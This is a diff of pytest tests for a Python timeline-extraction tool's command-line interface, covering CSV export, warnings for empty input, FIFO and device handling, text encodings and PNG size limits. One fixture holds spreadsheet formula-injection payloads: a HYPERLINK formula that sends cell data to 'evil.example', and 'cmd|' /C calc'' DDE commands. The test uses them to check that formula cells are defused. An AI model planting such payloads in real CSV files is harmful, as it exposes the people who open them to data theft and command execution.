@@ -9,12 +9,16 @@ import json
 import os
 import subprocess
 import sys
+import threading
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
-from timeline import read_document
-from timeline.cli import EXTRACT_COLUMNS, build_parser
+from timeline import export, read_document
+from timeline.cli import EXTRACT_COLUMNS, build_parser, main
+from timeline.pipeline import extract_document
+from timeline.schema import column_names
 
 ROOT = Path(__file__).resolve().parent.parent
 SEED = ROOT / "data" / "000_192722d517445595.txt"
@@ -31,13 +35,16 @@ ENGLISH = (
 )
 
 
-def run(*args: str | Path, cwd: Path = ROOT) -> subprocess.CompletedProcess[str]:
+def run(*args: str | Path, cwd: Path = ROOT, timeout: float = 300,
+        stdin: bytes | None = None, code: str | None = None) -> subprocess.CompletedProcess[str]:
+    """``python -m timeline ARGS`` (or ``python -c CODE ARGS``), as a user runs it."""
     env = dict(os.environ)
     env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
     env["PYTHONIOENCODING"] = "utf-8"
+    command = ["-c", code] if code else ["-m", "timeline"]
     raw = subprocess.run(
-        [sys.executable, "-m", "timeline", *map(str, args)],
-        cwd=cwd, env=env, capture_output=True, timeout=300,
+        [sys.executable, *command, *map(str, args)],
+        cwd=cwd, env=env, capture_output=True, timeout=timeout, input=stdin,
     )
     # Decoded by hand: no newline translation, so stdout is byte-for-byte what a file gets.
     return subprocess.CompletedProcess(raw.args, raw.returncode, raw.stdout.decode("utf-8"),
@@ -90,8 +97,8 @@ def test_stable_columns_match_the_module() -> None:
 def test_extract_formats(fmt: str, extra: list[str], seed_text: str) -> None:
     output = ok("extract", SEED, "--format", fmt, *extra)
     columns, rows = parse(output, fmt)
-    assert columns[: len(STABLE)] == STABLE
-    assert "mentions" not in columns or fmt != "csv"
+    # Every format has the stable columns first, then the rest of the schema.
+    assert columns == STABLE + [c for c in column_names() if c not in STABLE]
     assert len(rows) >= 5
     if fmt == "csv":
         assert output.count("\n") >= len(rows) + 1  # a header, then a row per event
@@ -131,13 +138,16 @@ def test_extract_output_file(tmp_path: Path, fmt: str) -> None:
     assert long_out.read_bytes().decode("utf-8") == written
 
 
-def test_csv_is_default_and_actors_are_readable() -> None:
+def test_csv_is_default_and_is_the_apps_csv() -> None:
     output = ok("extract", SEED)
-    columns, rows = parse(output, "csv")
-    assert columns[: len(STABLE)] == STABLE
-    actors = {a for r in rows for a in str(r["actors"]).split("; ") if a}
-    assert "Nord-Korea" in actors
-    assert not any(str(r["actors"]).startswith("[") for r in rows)
+    frame = extract_document(read_document(SEED))
+    # One CSV writer: the app's export, with the stable columns first.
+    assert output.encode("utf-8") == export.to_csv(frame, first=STABLE)
+    back = export.from_csv(output.encode("utf-8"))
+    pd.testing.assert_frame_equal(back, frame, check_exact=True)
+    assert any("Nord-Korea" in actors for actors in back["actors"])
+    _, rows = parse(output, "csv")
+    assert all(json.loads(str(r["actors"])) == a for r, a in zip(rows, frame["actors"], strict=True))
 
 
 def _vladivostok(rows: list[dict[str, object]]) -> dict[str, object]:
@@ -196,15 +206,75 @@ def test_several_files_merge(tmp_path: Path, seed_text: str) -> None:
     assert "2009-04" in {r["date"] for r in english_rows}
 
 
-def test_empty_file_gives_header_only_csv(tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    ("content", "why"),
+    [(b"", "is empty"), (b" \n\n\t\n", "is empty"), (b"date 2019-04 utenriks\n\n", "has only a header"),
+     (b"---\ndate: 2019\ntitle: T\n---\n", "has only a header"),
+     (b"Ingen datoer her, bare tekst.", "no dated events found")],
+)
+def test_a_file_without_events_is_said_on_stderr(tmp_path: Path, content: bytes, why: str) -> None:
+    path = tmp_path / "nothing.txt"
+    path.write_bytes(content)
+    result = run("extract", path)
+    assert result.returncode == 0, result.stderr
+    columns, rows = parse(result.stdout, "csv")
+    assert rows == [] and columns[: len(STABLE)] == STABLE
+    assert result.stderr.startswith("warning: ") and why in result.stderr
+    assert str(path) in result.stderr and "Traceback" not in result.stderr
+    for fmt, empty in (("jsonl", ""), ("json", "[]\n")):
+        result = run("extract", path, "--format", fmt)
+        assert (result.returncode, result.stdout) == (0, empty)
+        assert why in result.stderr
+    result = run("timex", path)
+    assert result.returncode == 0 and result.stdout == ""
+    assert "no temporal expressions" in result.stderr
+
+
+def test_a_file_with_events_gives_no_warning() -> None:
+    result = run("extract", SEED, "--format", "jsonl")
+    assert result.returncode == 0 and result.stderr == ""
+
+
+def test_only_the_empty_file_among_several_is_named(tmp_path: Path) -> None:
     empty = tmp_path / "empty.txt"
     empty.write_bytes(b"")
-    output = ok("extract", empty)
-    columns, rows = parse(output, "csv")
-    assert rows == []
-    assert columns[: len(STABLE)] == STABLE
-    assert ok("extract", empty, "--format", "jsonl") == ""
-    assert json.loads(ok("extract", empty, "--format", "json")) == []
+    result = run("extract", SEED, empty, "--format", "jsonl")
+    assert result.returncode == 0 and len(result.stdout.splitlines()) >= 5
+    assert result.stderr.strip().splitlines() == [f"warning: {empty} is empty: no dated events"]
+
+
+# --- CSV that a spreadsheet opens safely -------------------------------------------------------
+
+FORMULAS = (
+    "date: 2019-04-26\nlang: nb\n\n"
+    '=HYPERLINK("http://evil.example/?"&A1) Putin møtte Kim 25. april 2019.\n\n'
+    "+cmd|' /C calc'!A0 Sanksjonene kom i april 2009.\n\n"
+    "@SUM(1+1)*cmd|' /C calc'!A0 Nord-Korea trakk seg i 2003.\n\n"
+    "-2+3+cmd|' /C calc'!A0 Toppmøtet i Hanoi var i februar 2019.\n"
+)
+
+
+def _cells(output: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(output)) for cell in row]
+
+
+@pytest.mark.parametrize("command", ["extract", "timex"])
+def test_csv_defuses_formula_cells(tmp_path: Path, command: str) -> None:
+    path = tmp_path / "=cmd|' calc'!A0.txt"
+    path.write_text(FORMULAS, encoding="utf-8")
+    output = ok(command, path, "--format", "csv")
+    cells = _cells(output)
+    assert len(cells) > 20
+    # No cell starts a formula; signed numbers and BC dates are the only "-" cells.
+    risky = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert risky == []
+    assert all(c.lstrip("-").replace("-", "").replace(".", "").isdigit() for c in cells
+               if c.startswith("-"))
+    assert "'" + path.name in cells  # the file name too
+    if command == "extract":
+        quotes = list(export.from_csv(output.encode("utf-8"))["quote"])
+        assert any(q.startswith("=HYPERLINK(") for q in quotes)  # read back as written
+        assert any(q.startswith("+cmd|") for q in quotes) and any(q.startswith("@SUM(") for q in quotes)
 
 
 # --- timex ------------------------------------------------------------------------------------
@@ -311,7 +381,8 @@ def test_too_large_file_is_a_message(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize("command", ["extract", "timex"])
-@pytest.mark.parametrize("dct", ["2019-13", "abc", "2019-02-30", "26.04.2019", ""])
+@pytest.mark.parametrize("dct", ["2019-13", "abc", "2019-02-30", "26.04.2019", "", "0000",
+                                 "0000-01-01", "-0044"])
 def test_bad_dct_is_an_argparse_error(command: str, dct: str) -> None:
     result = run(command, SEED, "--dct", dct)
     assert result.returncode == 2
@@ -348,6 +419,107 @@ def test_unsupported_language_in_header_is_a_message(tmp_path: Path) -> None:
     assert "fr" in result.stderr
 
 
+# --- inputs that are not files, encodings -----------------------------------------------------
+
+
+@pytest.mark.parametrize("device", ["/dev/zero", "/dev/null", "/dev/urandom"])
+def test_a_device_is_refused_at_once(device: str) -> None:
+    result = run("extract", device, timeout=60)
+    assert result.returncode == 2
+    assert result.stderr == f"error: {device}: is a device or socket, not a text file\n"
+    assert result.stdout == ""
+
+
+_SHORT_WAIT = (
+    "import sys, timeline.document as d; d.PIPE_WAIT_SECONDS = 0.5; "
+    "from timeline.cli import main; sys.exit(main(sys.argv[1:]))"
+)
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
+def test_a_fifo_with_no_writer_is_an_error_not_a_hang(tmp_path: Path) -> None:
+    fifo = tmp_path / "inbox"
+    os.mkfifo(fifo)
+    result = run("extract", fifo, code=_SHORT_WAIT, timeout=60)  # the timeout guards the suite
+    assert result.returncode == 2
+    assert result.stderr == (f"error: {fifo}: nothing arrived for 0.5 seconds "
+                             "(a pipe that nothing writes to?)\n")
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs on this system")
+def test_a_fifo_with_a_writer_is_read(tmp_path: Path) -> None:
+    fifo = tmp_path / "inbox"
+    os.mkfifo(fifo)
+
+    def write() -> None:
+        with open(fifo, "wb") as f:  # blocks until the command opens it
+            f.write(ENGLISH.encode("utf-8"))
+
+    writer = threading.Thread(target=write, daemon=True)
+    writer.start()
+    result = run("extract", fifo, "--format", "jsonl", timeout=120)
+    writer.join(timeout=10)
+    assert result.returncode == 0, result.stderr
+    assert "2019-04-25" in {json.loads(line)["date"] for line in result.stdout.splitlines()}
+
+
+def test_standard_input_is_read_through_dev_stdin() -> None:
+    result = run("timex", "/dev/stdin", stdin=ENGLISH.encode("utf-8"), timeout=120)
+    assert result.returncode == 0, result.stderr
+    assert "April 2009" in [json.loads(line)["text"] for line in result.stdout.splitlines()]
+
+
+@pytest.mark.parametrize("encoding", ["utf-32", "utf-32-le", "utf-32-be", "utf-16"])
+def test_utf32_and_utf16_with_a_bom(tmp_path: Path, encoding: str) -> None:
+    path = tmp_path / "wide.txt"
+    bom = {"utf-32-le": "\ufeff", "utf-32-be": "\ufeff"}.get(encoding, "")
+    path.write_bytes((bom + ENGLISH).encode(encoding))
+    result = run("extract", path, "--format", "jsonl")
+    assert result.returncode == 0, result.stderr
+    rows = [json.loads(line) for line in result.stdout.splitlines()]
+    assert {r["date"] for r in rows} >= {"2019-04-25", "2009-04"}
+    assert not any("\x00" in r["quote"] for r in rows)
+
+
+# --- png sizes ---------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("option", "value"),
+    [("--width", "100000"), ("--width", "0"), ("--width", "-1"), ("--width", "99"),
+     ("--width", "wide"), ("--height", "0"), ("--height", "-600"), ("--height", "20000"),
+     ("--scale", "0"), ("--scale", "-2"), ("--scale", "nan"), ("--scale", "inf"),
+     ("--scale", "100")],
+)
+def test_png_sizes_out_of_range_are_usage_errors(tmp_path: Path, option: str, value: str) -> None:
+    out = tmp_path / "chart.png"
+    result = run("png", SEED, "-o", out, f"{option}={value}", timeout=120)
+    assert result.returncode == 2
+    assert "usage:" in result.stderr and f"argument {option}:" in result.stderr
+    assert "Traceback" not in result.stderr
+    assert not out.exists()
+
+
+def test_png_image_larger_than_the_limit_is_refused(tmp_path: Path) -> None:
+    out = tmp_path / "chart.png"
+    result = run("png", SEED, "-o", out, "--width", "10000", "--scale", "3", timeout=120)
+    assert result.returncode == 2
+    assert result.stderr == ("error: the PNG would be 30,000 pixels a side (10000 × scale 3); "
+                             "the limit is 20,000\n")
+    assert not out.exists()
+
+
+def test_png_that_chromium_does_not_render_is_not_written(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    monkeypatch.setattr(export, "png_available", lambda: (True, "ready"))
+    monkeypatch.setattr(export, "_render", lambda fig, **size: b"u\xabZ")  # what Chromium gave
+    out = tmp_path / "chart.png"
+    assert main(["png", str(SEED), "-o", str(out)]) == 3
+    assert "not a PNG image" in capsys.readouterr().err
+    assert not out.exists()
+
+
 # --- help -------------------------------------------------------------------------------------
 
 
@@ -364,6 +536,13 @@ def test_subcommands() -> None:
     top = ok("--help")
     for name in _subcommands():
         assert name in top
+
+
+def test_png_help_states_the_limits() -> None:
+    output = ok("png", "--help")
+    for limit in (export.PNG_MIN_SIDE, export.PNG_MAX_SIDE, export.PNG_MAX_PIXELS):
+        assert str(limit) in output
+    assert f"{export.PNG_MIN_SCALE:g} to {export.PNG_MAX_SCALE:g}" in output
 
 
 @pytest.mark.parametrize("command", sorted(_subcommands()))
